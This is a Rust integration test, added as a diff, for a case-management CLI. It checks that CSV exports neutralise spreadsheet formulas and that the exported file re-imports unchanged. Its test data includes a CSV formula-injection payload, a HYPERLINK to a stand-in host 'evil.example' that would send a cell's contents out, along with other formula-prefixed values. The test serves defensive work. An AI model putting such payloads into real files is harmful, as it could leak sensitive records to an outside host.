@@ -1,0 +1,136 @@
+//! Issue 16 at the command line: what an export writes and who may run one.
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+
+struct Home {
+    dir: tempfile::TempDir,
+}
+
+impl Home {
+    fn new() -> Self {
+        Self {
+            dir: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_homeward"));
+        c.current_dir(self.dir.path())
+            .arg("--data-dir")
+            .arg(self.dir.path().join("data"))
+            .args(args);
+        c.env_remove("HOMEWARD_KEY")
+            .env_remove("HOMEWARD_DATABASE_URL")
+            .env_remove("HOMEWARD_PASSWORD")
+            .env("HOMEWARD_METRICS_LISTEN", "");
+        c
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        self.cmd(args).output().unwrap()
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.dir.path().join(name)
+    }
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// Text a caseworker typed that a spreadsheet would run: it leaves in an export neutralised,
+/// and the export re-imports to the same text.
+#[test]
+fn formula_looking_values_leave_an_export_neutralised() {
+    let h = Home::new();
+    let o = h.run(&["demo", "--no-serve", "--children", "2", "--requests", "1"]);
+    assert!(o.status.success(), "{}", text(&o));
+    let input = h.path("in.csv");
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    std::fs::write(
+        &input,
+        format!(
+            "name_first,name_last,location_current,notes,sex,age,protection_status\n\"{}\",+SUM(1+1),@cmd,-2+3,male,9,unaccompanied\n",
+            formula.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    let o = h.run(&[
+        "import",
+        "--kind",
+        "case",
+        input.to_str().unwrap(),
+        "--as",
+        "caseworker",
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+
+    let out = h.path("out.csv");
+    let o = h.run(&[
+        "export",
+        "--kind",
+        "case",
+        "--out",
+        out.to_str().unwrap(),
+        "--as",
+        "supervisor",
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    let mut r = csv::Reader::from_path(&out).unwrap();
+    let headers: Vec<String> = r
+        .headers()
+        .unwrap()
+        .iter()
+        .map(|h| h.trim_start_matches('\u{feff}').to_string())
+        .collect();
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    let row = rows
+        .iter()
+        .find(|r| r[col("name_last")].contains("SUM"))
+        .expect("the imported case is exported");
+    assert_eq!(&row[col("name_first")], format!("'{formula}"));
+    assert_eq!(&row[col("name_last")], "'+SUM(1+1)");
+    assert_eq!(&row[col("location_current")], "'@cmd");
+    assert_eq!(&row[col("notes")], "'-2+3");
+    // No cell of the whole file starts as a formula.
+    for r in &rows {
+        for cell in r.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell}"
+            );
+        }
+    }
+
+    // Re-imported, the export changes nothing: the `'` is taken off again.
+    let o = h.run(&[
+        "import",
+        "--kind",
+        "case",
+        out.to_str().unwrap(),
+        "--as",
+        "supervisor",
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    let again = h.path("again.csv");
+    let o = h.run(&[
+        "export",
+        "--kind",
+        "case",
+        "--out",
+        again.to_str().unwrap(),
+        "--as",
+        "supervisor",
+    ]);
+    assert!(o.status.success(), "{}", text(&o));
+    let text_again = std::fs::read_to_string(&again).unwrap();
+    assert!(text_again.contains("'+SUM(1+1)"), "{text_again}");
+    assert!(!text_again.contains("''+SUM"), "{text_again}");
+}
